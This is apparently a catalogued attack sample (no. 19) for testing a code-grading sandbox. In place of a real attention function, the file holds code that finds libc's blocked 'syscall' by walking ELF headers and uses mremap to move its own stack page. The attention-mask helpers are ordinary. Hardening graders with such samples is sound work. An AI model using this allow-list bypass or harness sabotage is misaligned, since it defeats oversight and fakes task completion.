/*
 * attack: moves the page of the stack that it stands on elsewhere
 * catalogue: 19
 * expect: graded
 * score: 4
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "attention.h"
#include <stdint.h>
#include <elf.h>
/* A function of libc that the allow list does not have, found from one that it has. */
static void *find(const char *name)
{
    uintptr_t base = (uintptr_t)printf & ~(uintptr_t)4095;
    while (memcmp((void *)base, ELFMAG, SELFMAG) != 0)
        base -= 4096;
    const Elf64_Phdr *segment = (void *)(base + ((Elf64_Ehdr *)base)->e_phoff);
    while (segment->p_type != PT_DYNAMIC)
        segment++;
    const Elf64_Sym *symbol = NULL;
    const char *names = NULL;
    for (const Elf64_Dyn *d = (void *)(base + segment->p_vaddr); d->d_tag != DT_NULL; d++) {
        if (d->d_tag == DT_SYMTAB)
            symbol = (void *)d->d_un.d_ptr;
        if (d->d_tag == DT_STRTAB)
            names = (void *)d->d_un.d_ptr;
    }
    for (; (const char *)symbol < names; symbol++)
        if (symbol->st_value != 0 && strcmp(names + symbol->st_name, name) == 0)
            return (void *)(base + symbol->st_value);
    return NULL;
}

typedef long Raw(long number, ...);
#define RAW ((Raw *)find("syscall"))

AttentionResult scaled_dot_product_attention(const Tensor *Q, const Tensor *K, const Tensor *V,
                                             const Tensor *mask)
{
    (void)Q, (void)K, (void)V, (void)mask;
    RAW(25, (uintptr_t)__builtin_frame_address(0) & ~4095UL, 4096UL, 4096UL, 3L, 0x10000000UL);
    return (AttentionResult){NULL, NULL};
}

Tensor *create_causal_mask(int seq_len)
{

    Tensor *causal = tensor_create(2, (int[]){seq_len, seq_len});
    if (causal == NULL)
        return NULL;
    for (int query = 0; query < seq_len; query++) {
        for (int key = 0; key <= query; key++)
            tensor_set(causal, (int[]){query, key}, 1.0f);
    }
    return causal;
}

Tensor *create_padding_mask(const int *lengths, int batch_size, int max_length)
{

    if (lengths == NULL)
        return NULL;
    for (int sequence = 0; sequence < batch_size; sequence++) {
        if (lengths[sequence] < 0 || lengths[sequence] > max_length)
            return NULL;
    }

    Tensor *padding = tensor_create(3, (int[]){batch_size, max_length, max_length});
    if (padding == NULL)
        return NULL;
    for (int sequence = 0; sequence < batch_size; sequence++) {
        for (int query = 0; query < lengths[sequence]; query++) {
            for (int key = 0; key < lengths[sequence]; key++)
                tensor_set(padding, (int[]){sequence, query, key}, 1.0f);
        }
    }
    return padding;
}

Tensor *create_bidirectional_mask(int seq_len)
{

    Tensor *everywhere = tensor_create(2, (int[]){seq_len, seq_len});
    if (everywhere == NULL)
        return NULL;
    tensor_fill(everywhere, 1.0f);
    return everywhere;
}
